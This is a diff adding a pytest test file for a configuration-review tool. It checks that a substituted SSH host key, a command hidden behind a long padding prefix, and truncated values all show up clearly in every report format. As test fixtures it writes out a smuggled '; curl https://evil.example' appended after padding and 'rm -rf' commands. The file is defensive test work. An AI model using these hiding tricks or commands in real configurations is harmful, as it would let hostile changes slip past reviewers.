@@ -1,0 +1,151 @@
+"""A pull request cannot hide a change of trust behind many other changes, or behind a long text."""
+
+import json
+from collections.abc import Callable
+
+import pytest
+from history import commit, fingerprint, git, replace, spec
+from markdown_it import MarkdownIt
+from running import Gen
+
+from generator.report.format import Format
+
+pytestmark = pytest.mark.system
+
+ATTACKERS_KEY = fingerprint("the attacker's")
+LAST_SITE = "willow"
+
+
+def write_site(name: str, hosts: int, port: int, key: str, partition: str = "short") -> None:
+    """Write a spec with many hosts, of which the first has a host key."""
+    lines = [f"site: {name}", f"title: {name.title()}"]
+    lines += [f"sources: {{ page: {{ url: https://{name}.example/ }} }}", "hosts:"]
+    for number in range(hosts):
+        lines.append(f"  {name}{number}: {{ host: n{number}.{name}.example, port: {port} }}")
+    lines += [
+        "host_keys:",
+        f"  all: {{ hosts: {name}0, source: page, fingerprints: {{ ed25519: {fingerprint(key)} }} }}",
+        "auth: { method: publickey }",
+        "slurm:",
+        "  partitions:",
+    ]
+    for number in range(60):
+        lines.append(f"    {partition}{number}: {{ max_walltime: 1-00:00:00 }}")
+    spec(name).write_text("\n".join(lines) + "\n")
+
+
+def many_ports() -> None:
+    # 37 sites of 27 hosts: a spec has a limit of keys.
+    for number in range(37):
+        write_site(f"alder{number}", 27, 2200, "alder")
+    write_site(LAST_SITE, 1, 22, "willow")
+    commit("More sites")
+    git("switch", "--quiet", "--create", "proposal")
+    for number in range(37):
+        write_site(f"alder{number}", 27, 2201, "alder")
+    write_site(LAST_SITE, 1, 22, "the attacker's")
+
+
+def many_partitions() -> None:
+    write_site("alder", 1, 22, "alder")
+    write_site(LAST_SITE, 1, 22, "willow")
+    commit("Two more sites")
+    git("switch", "--quiet", "--create", "proposal")
+    write_site("alder", 1, 22, "alder", partition="long")
+    write_site(LAST_SITE, 1, 22, "the attacker's", partition="long")
+
+
+def many_new_sites() -> None:
+    write_site(LAST_SITE, 1, 22, "willow")
+    commit("One more site")
+    git("switch", "--quiet", "--create", "proposal")
+    for number in range(60):
+        write_site(f"birch{number}", 3, 22, "birch")
+    write_site(LAST_SITE, 1, 22, "the attacker's")
+
+
+FLOODS = [
+    pytest.param(many_ports, id="999 ports of other sites"),
+    pytest.param(many_partitions, id="240 partitions"),
+    pytest.param(many_new_sites, id="60 new sites"),
+]
+
+
+@pytest.mark.parametrize("flood", FLOODS)
+def test_a_changed_host_key_is_the_first_finding_in_every_format(
+    reading_gen: Gen, flood: Callable[[], None]
+) -> None:
+    flood()
+    first = json.loads(reading_gen("review", "main", "--format", "json").out)["findings"][0]
+    assert (first["rule"], first["site"]) == ("trust", LAST_SITE)
+    detail = f"added ed25519 {ATTACKERS_KEY}"
+    assert first["details"][0] == detail
+    github = reading_gen("review", "main", "--format", "github").out.splitlines()
+    assert detail in github[0]
+    sarif = json.loads(reading_gen("review", "main", "--format", "sarif").out)
+    assert detail in sarif["runs"][0]["results"][0]["message"]["text"]
+    assert detail in reading_gen("review", "main", "--format", "rdjsonl").out.splitlines()[0]
+    assert detail in reading_gen("review", "main").out.splitlines()[1]
+    markdown = reading_gen("review", "main", "--format", "markdown").out
+    assert len(markdown) < 65_536
+    items = MarkdownIt("commonmark").parse(markdown)
+    first_item = [token.content for token in items if token.type == "inline"][2:4]
+    assert LAST_SITE in first_item[0]
+    assert first_item[1] == f"`{detail}`"
+
+
+def test_the_tenth_annotation_counts_the_rest_and_none_is_lost(reading_gen: Gen) -> None:
+    many_ports()
+    lines = reading_gen("review", "main", "--format", "github").out.splitlines()
+    errors = [line for line in lines if line.startswith("::error")]
+    assert errors[9] == (
+        "::error title=gen%3A 991 more::991 more findings of this level are not shown here;"
+        " the log of this step has all"
+    )
+    assert len(errors) == 1 + 1000
+
+
+PREFIX = "x" * 300
+
+
+def test_what_stands_behind_a_long_prefix_is_shown_in_every_format(reading_gen: Gen) -> None:
+    replace(spec("aster"), "ulimit -n 65536", f"ulimit -n 65536; true {PREFIX}")
+    commit("A long command")
+    git("switch", "--quiet", "--create", "proposal")
+    replace(spec("aster"), PREFIX, f"{PREFIX}; curl https://evil.example")
+    for form in Format:
+        output = reading_gen("review", "main", "--format", form).out
+        # JSON escapes the arrow.
+        arrow = "\\u2192" if "\\u2192" in output else "→"
+        difference = f"from character 323: nothing {arrow} ; curl https://evil.example"
+        assert difference in output, form
+        # Both values are there as a whole.
+        assert output.count(PREFIX) >= 2
+
+
+def test_a_value_is_cut_only_with_a_mark_and_both_ends(reading_gen: Gen) -> None:
+    long_text = "y" * 900
+    replace(spec("aster"), "ulimit -n 65536", f"rm -rf a; true {long_text}; rm -rf b")
+    output = reading_gen("review", "main", "--format", "markdown").out
+    item = output.partition("<details>")[0]
+    assert "rm -rf a" in item
+    assert "characters left out" in item
+    assert "rm -rf b" in item
+    assert long_text in reading_gen("review", "main").out
+
+
+def test_only_the_changed_parts_of_a_list_are_shown(reading_gen: Gen) -> None:
+    replace(spec("aster"), '"login-{n}.aster.example"', '"login{n}.aster.example"')
+    [finding] = json.loads(reading_gen("review", "main", "--format", "json").out)["findings"]
+    assert all(detail.startswith(("added ", "removed ")) for detail in finding["details"])
+
+
+def test_keys_that_are_gone_are_said_to_be_no_longer_pinned(reading_gen: Gen) -> None:
+    write_site(LAST_SITE, 1, 22, "willow")
+    commit("One more site")
+    git("switch", "--quiet", "--create", "proposal")
+    lines = spec(LAST_SITE).read_text().splitlines()
+    kept = [line for line in lines if not line.startswith(("host_keys:", "  all:"))]
+    spec(LAST_SITE).write_text("\n".join(kept) + "\n")
+    output = reading_gen("review", "main").out
+    assert f"host keys of {LAST_SITE}0 are no longer pinned" in output
